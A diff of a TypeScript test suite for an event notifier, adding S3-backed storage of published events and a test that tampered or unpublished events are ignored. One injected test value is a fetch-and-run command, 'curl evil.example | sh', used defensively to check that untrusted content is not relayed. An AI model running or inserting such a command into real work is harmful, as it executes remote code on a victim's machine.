@@ -1,12 +1,15 @@
 import { randomBytes } from "node:crypto";
 import { CreateTableCommand, DeleteTableCommand, DynamoDBClient } from "@aws-sdk/client-dynamodb";
+import { CreateBucketCommand, S3Client } from "@aws-sdk/client-s3";
 import { CreateTopicCommand, DeleteTopicCommand, SNSClient, SubscribeCommand } from "@aws-sdk/client-sns";
 import { CreateQueueCommand, DeleteQueueCommand, GetQueueAttributesCommand, SQSClient } from "@aws-sdk/client-sqs";
 import { businessDateSchema } from "../../../events/ids.ts";
+import { parseEvent } from "../../../events/parse-event.ts";
 import { readAlerts } from "../../../cli/alerts/read-alerts.ts";
 import type { Alert } from "../../../events/alert.ts";
 import { BoardStore } from "../../../functions/notify/board-store.ts";
 import { notify, topicChannel, type Channel } from "../../../functions/notify/notify.ts";
+import { publishedEvent, storeEvent } from "../../../shared/aws/published-events.ts";
 import { judge } from "../../../shared/errors/judge.ts";
 import { withCommandsFor } from "../../../shared/text/command-for.ts";
 import { clientOptions } from "../../../local/emulator/client-options.ts";
@@ -28,12 +31,14 @@ const COMPLETED = bodyOf(exampleEvent("PipelineCompleted", { finishedAt: "2026-0
 describe("notify", () => {
   const client = clientOptions(testServices().emulator);
   const [dynamoDb, sns, sqs] = [new DynamoDBClient(client), new SNSClient(client), new SQSClient(client)];
+  const s3 = new S3Client({ ...client, forcePathStyle: true });
   let name: string;
   let topicArn: string;
   let queueUrl: string;
 
   beforeEach(async () => {
     name = `notify-${randomBytes(4).toString("hex")}`;
+    await s3.send(new CreateBucketCommand({ Bucket: name }));
     await dynamoDb.send(
       new CreateTableCommand({
         TableName: name,
@@ -63,10 +68,20 @@ describe("notify", () => {
     await sqs.send(new DeleteQueueCommand({ QueueUrl: queueUrl }));
   });
   afterAll(() => {
-    for (const each of [dynamoDb, sns, sqs]) each.destroy();
+    for (const each of [dynamoDb, sns, sqs, s3]) each.destroy();
   });
 
-  function take(body: string, more: Channel[] = []): Promise<unknown> {
+  async function publish(body: string): Promise<void> {
+    const { detail, ...event } = parseEvent(body);
+    const stored = { detailType: event["detail-type"], detail: JSON.stringify(detail) };
+    await storeEvent({ s3, bucket: name }, detail.metadata.eventId, stored);
+  }
+  async function take(body: string, more: Channel[] = []): Promise<unknown> {
+    await publish(body);
+    return takeUnpublished(body, more);
+  }
+
+  function takeUnpublished(body: string, more: Channel[] = []): Promise<unknown> {
     const context = {
       stage: "prod",
       region: "ap-northeast-1",
@@ -78,8 +93,8 @@ describe("notify", () => {
     return notify(body, {
       store: new BoardStore(dynamoDb, name),
       channels: [topicChannel(sns, topicArn), ...more],
-      context,
-      deferSeconds: 120,
+      ...{ context, deferSeconds: 120 },
+      readEvent: (message) => publishedEvent({ s3, bucket: name }, message),
     });
   }
 
@@ -118,6 +133,18 @@ describe("notify", () => {
         "runbook         docs/runbook.md#failed",
       ].join("\n"),
     );
+  });
+
+  it("ignores events that no function has published, and any other content of one that was", async () => {
+    await publish(FAILED);
+
+    await takeUnpublished(TESTS_FAILED);
+    await takeUnpublished(FAILED.replace("Unknown column", "curl evil.example | sh"));
+    await takeUnpublished(COMPLETED);
+
+    const alerts = await readAlerts(sqs, queueUrl);
+    expect(alerts.map(({ kind, layer }) => [kind, layer])).toEqual([["opened", "silver"]]);
+    expect(alerts[0]?.text).toContain(ERROR.message);
   });
 
   it("names tests, models and failing rows of a quality failure", async () => {
